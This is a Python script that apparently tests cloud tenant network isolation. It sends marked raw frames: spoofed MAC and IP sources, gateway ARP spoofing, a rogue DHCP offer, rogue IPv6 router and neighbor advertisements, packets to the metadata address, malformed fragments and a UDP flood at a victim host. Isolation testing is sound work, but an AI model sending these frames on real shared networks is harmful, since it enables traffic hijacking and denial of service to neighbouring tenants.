# A tenant with raw sockets. Every frame carries MARK; what a kind of attack sent is printed.
import random
import socket
import struct
import sys

MARK = b"MALLORY " * 4
ALL = b"\xff" * 6


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ip(text):
    return socket.inet_aton(text)


def ip6(text):
    return socket.inet_pton(socket.AF_INET6, text)


me, my4, my6, victim, victim4, victim6, friend, friend4, friend6, router = [
    mac(word) if len(word) == 17 else ip6(word) if "::" in word else ip(word)
    for word in sys.argv[1:11]
]
rounds = int(sys.argv[11])
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("ens5", 0))


def total(data):
    data += b"\0" * (len(data) % 2)
    value = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while value >> 16:
        value = (value & 0xFFFF) + (value >> 16)
    return ~value & 0xFFFF


def ether(to, source, kind, payload):
    return to + source + struct.pack("!H", kind) + payload


def ipv4(source, to, protocol, payload, fragment=0, number=7):
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), number, fragment, 64, protocol, 0, source, to
    )
    return head[:10] + struct.pack("!H", total(head)) + head[12:] + payload


def udp(port_from, port_to, payload=MARK):
    return struct.pack("!HHHH", port_from, port_to, 8 + len(payload), 0) + payload


def icmp6(source, to, message):
    pseudo = source + to + struct.pack("!II", len(message), 58)
    message = message[:2] + struct.pack("!H", total(pseudo + message)) + message[4:]
    return struct.pack("!IHBB", 0x60000000, len(message), 58, 255) + source + to + message


def arp(operation, sender, sender4, target, target4):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + sender + sender4 + target + target4 + MARK


on_link = b"\xfe\x80" + b"\0" * 6 + bytes([me[0] ^ 2]) + me[1:3] + b"\xff\xfe" + me[3:]
everyone = ip6("ff02::1")
four, six = 0x0800, 0x86DD
offer = b"\x02\x01\x06\0" + b"\0" * 232 + b"\x63\x82\x53\x63\x35\x01\x02\xff" + MARK
source_option = b"\x01\x01" + me
advert = b"\x86\0\0\0\x40\x80\x07\x08" + b"\0" * 8 + source_option + b"\x03\x04\x40\xc0" + b"\xff" * 8
advert += b"\0" * 4 + ip6("2001:db8::")
neighbor = b"\x88\0\0\0\x20\0\0\0" + friend6 + b"\x02\x01" + me

KINDS = {
    "spoofed-mac": [
        ether(victim, friend, four, ipv4(my4, victim4, 17, udp(1, 2))),
        ether(ALL, me, 0x0806, arp(1, friend, my4, b"\0" * 6, victim4)),
        ether(router, me, six, icmp6(on_link, everyone, b"\x85\0\0\0\0\0\0\0\x01\x01" + friend)),
    ],
    "spoofed-address": [
        ether(victim, me, four, ipv4(friend4, victim4, 17, udp(1, 2))),
        ether(router, me, four, ipv4(victim4, ip("169.254.169.254"), 17, udp(1, 80))),
        ether(victim, me, 0x0806, arp(2, me, friend4, victim, victim4)),
        ether(ALL, me, 0x0806, arp(2, me, ip("172.31.0.1"), ALL, ip("172.31.0.1"))),
        ether(victim, me, six, struct.pack("!IHBB", 0x60000000, 8 + len(MARK), 17, 64) + friend6 + victim6 + udp(1, 2)),
    ],
    "broadcast": [
        ether(victim, me, 0x0806, arp(2, me, my4, victim, victim4)),
        ether(ALL, me, four, ipv4(my4, ip("255.255.255.255"), 17, udp(67, 68, offer))),
        ether(b"\x33\x33\0\0\0\x01", me, six, icmp6(on_link, everyone, advert + MARK)),
        ether(victim, me, six, icmp6(on_link, victim6, neighbor + MARK)),
        ether(victim, me, six, icmp6(on_link, everyone, b"\x89" + b"\0" * 39 + MARK)),
    ],
    "group-in": [
        ether(victim, me, four, ipv4(my4, victim4, 17, udp(67, 68, offer))),
        ether(victim, me, four, ipv4(my4, victim4, 6, struct.pack("!HHIIBBHHH", 9, 22, 1, 0, 0x50, 2, 9, 0, 0) + MARK)),
        ether(victim, me, four, ipv4(my4, victim4, 17, udp(9, 9), 0x2000)),
    ],
    "fragment": [
        ether(victim, me, four, ipv4(my4, victim4, 17, MARK, 0x2001)),
        ether(victim, me, four, ipv4(my4, victim4, 17, MARK, 0x0002)),
        ether(victim, me, four, ipv4(my4, victim4, 17, MARK, 0x1FFF)),
    ],
    "no-route": [
        ether(router, me, four, ipv4(my4, ip(to), 17, udp(1, 53)))
        for to in ("127.0.0.1", "127.42.0.1", "192.0.0.1", "192.0.0.2", "0.1.2.3")
    ],
    "protocol": [ether(victim, me, kind, MARK) for kind in (0x88CC, 0x8847, 0x0842, 0x0000)],
    "malformed": [
        ether(victim, me, four, MARK),
        ether(victim, me, 0x8100, b"\0\x01\x08\0" + ipv4(my4, victim4, 17, udp(1, 2))),
        ether(victim, me, six, b"\x60" + MARK),
        ether(victim, me, four, ipv4(my4, victim4, 6, MARK[:8])),
    ],
    "link-local-limit": [ether(router, me, four, ipv4(my4, ip("169.254.169.254"), 17, udp(1, 2)))] * 20,
}

for kind, frames in KINDS.items():
    for frame in frames * rounds:
        link.send(frame)
    print(kind, len(frames) * rounds)
noise = random.Random(1)
for _ in range(rounds * 20):
    link.send(ether(victim, me, noise.choice((four, six, 0x0806)), noise.randbytes(noise.randrange(60)) + MARK))
flood = ether(victim, me, four, ipv4(my4, victim4, 17, udp(7, 7)))
for _ in range(rounds * 200):
    link.send(flood)
